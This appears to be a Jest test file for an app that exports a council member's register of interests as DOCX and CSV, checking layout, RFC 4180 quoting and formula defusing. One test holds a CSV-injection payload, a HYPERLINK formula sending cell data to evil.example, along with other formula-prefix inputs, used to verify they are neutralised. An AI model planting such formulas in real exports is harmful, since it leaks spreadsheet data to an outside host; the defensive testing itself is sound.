import JSZip from 'jszip';
import { saveMyDeclaration } from '../../../main/interests/declarations';
import { csvField, csvLine } from '../../../main/export/csv';
import { declarationsCsv, registerDocx } from '../../../main/interests/exports';
import { saveInterest, saveProfile } from '../../../main/interests/register';
import { parseCsv } from '../../helpers/csv';
import { COMMITTEE, draft, library, type TestLibrary } from './setup';

/** word/document.xml of a .docx (a .docx is a zip archive), read with jszip. */
async function documentXml(bytes: Uint8Array): Promise<string> {
  const zip = await JSZip.loadAsync(bytes);
  const xml = await zip.file('word/document.xml')?.async('string');
  if (!xml) throw new Error('not a Word document');
  return xml;
}

const visibleText = (xml: string) =>
  xml
    .replace(/<\/w:p>/g, '\n')
    .replace(/<[^>]+>/g, '')
    .replace(/&amp;/g, '&')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'");

describe('exports', () => {
  let lib: TestLibrary;
  beforeAll(async () => {
    lib = await library({ pack: false });
    saveProfile(lib.store.db, { name: 'Dr Sarah Moore', tookOffice: '2023-05-04' });
    saveInterest(lib.store.db, draft());
    saveInterest(
      lib.store.db,
      draft({ category: 'disclosable-pecuniary', subcategory: 'land', whose: 'partner', description: 'Freehold of the family home', names: [], addresses: ['4 Oak Road, Leicester LE2 3AB'], startDate: '2010-06-01', notifiedDate: '2023-05-20' }),
    );
    saveInterest(lib.store.db, draft({ category: 'non-registrable', subcategory: 'noted', description: 'My brother is a "Friends of Abbey Park" trustee, & treasurer', names: ['Friends of Abbey Park'] }));
  });
  afterAll(() => lib.cleanup());

  test('the register DOCX has a section per category, a table per kind, and every interest', async () => {
    const bytes = await registerDocx(lib.store.db, new Date(2025, 0, 20));
    expect(Buffer.from(bytes.subarray(0, 2)).toString()).toBe('PK');
    const xml = await documentXml(bytes);
    expect(xml).toContain('<w:tbl>');
    const text = visibleText(xml);
    expect(text).toContain('Register of members’ interests');
    expect(text).toContain('Member: Dr Sarah Moore');
    expect(text).toContain('Prepared: 20 January 2025');
    for (const heading of ['Disclosable pecuniary interests', 'Other registrable interests', 'Non-registrable interests (noted by the member)', 'Employment, office, trade, profession or vocation', 'Land', 'Securities', 'A body the council appointed or nominated you to']) {
      expect(text).toContain(heading);
    }
    expect(text).toContain('School governor, Millgate School');
    expect(text).toContain('Freehold of the family home (4 Oak Road, Leicester LE2 3AB)');
    expect(text).toContain('Spouse or partner');
    expect(text).toContain('1 June 2010');
    expect(text).toContain('My brother is a "Friends of Abbey Park" trustee, & treasurer');
    expect(text).toMatch(/Signed:/);
    // Kinds with nothing registered say so.
    expect(text).toContain('None.');
    // The land table comes under the DPI heading, before other registrable interests.
    expect(text.indexOf('Freehold of the family home')).toBeLessThan(text.indexOf('Other registrable interests'));
  });

  test('CSV fields are quoted as RFC 4180 says, and formulas are defused', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('\tcmd')).toBe("'\tcmd");
    expect(csvField('\rcmd')).toBe('"\'\rcmd"');
    expect(csvLine(['a', '', 'c,d'])).toBe('a,,"c,d"');
  });

  test('the declarations CSV has mine and the minutes’, with a source column', () => {
    const item = lib.itemId('117');
    saveMyDeclaration(lib.store.db, {
      meetingId: lib.meetingId,
      itemId: item,
      itemText: '',
      interestId: null,
      category: 'other-registrable',
      nature: 'Governor, Millgate School, "the school" in the report',
      withdrew: true,
      dispensation: false,
      dispensationDetails: '',
    });
    const csv = declarationsCsv(lib.store.db);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('Source,Date,Committee,Item,Member,Interest,Nature,Left the room,Dispensation,Dispensation details,Checked');
    expect(lines).toContain(
      'My record,2025-01-14,"Children, Young People and Education Scrutiny Commission",117 Placement costs and IMPOWER update,Dr Sarah Moore,"Governor, Millgate School, ""the school"" in the report",Other registrable interest,Yes,No,,"Yes, your own record"',
    );
    expect(lines).toContain('Minutes,2025-01-14,"Children, Young People and Education Scrutiny Commission",,Dr Moore,being on the board for Millgate School,Interest (nature not stated),No,,,"No, as read from the minutes"');
    expect(lines).toContain('Minutes,2025-01-14,"Children, Young People and Education Scrutiny Commission",budget items,March,Council Tax support cuts,Interest (nature not stated),No,,,"No, as read from the minutes"');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(lines).toHaveLength(5);
  });

  test('a hostile interest is not a formula in the declarations CSV', () => {
    const hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Register")';
    const interest = saveInterest(lib.store.db, draft({ description: hostile, names: ['Evil Ltd'] }));
    saveMyDeclaration(lib.store.db, {
      meetingId: lib.meetingId,
      itemId: null,
      itemText: '@SUM(1+1)',
      interestId: interest.id,
      category: 'other-registrable',
      nature: hostile,
      withdrew: false,
      dispensation: true,
      dispensationDetails: '+44 20 7946 0000\r\n-cmd',
    });
    const csv = declarationsCsv(lib.store.db);
    const rows = parseCsv(csv);
    expect(rows.every((r) => r.length === 11)).toBe(true);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const mine = rows.find((r) => r[5]?.includes('HYPERLINK'));
    expect(mine).toEqual(['My record', '2025-01-14', COMMITTEE, "'@SUM(1+1)", 'Dr Sarah Moore', `'${hostile}`, 'Other registrable interest', 'No', 'Yes', "'+44 20 7946 0000\r\n-cmd", 'Yes, your own record']);
  });
});
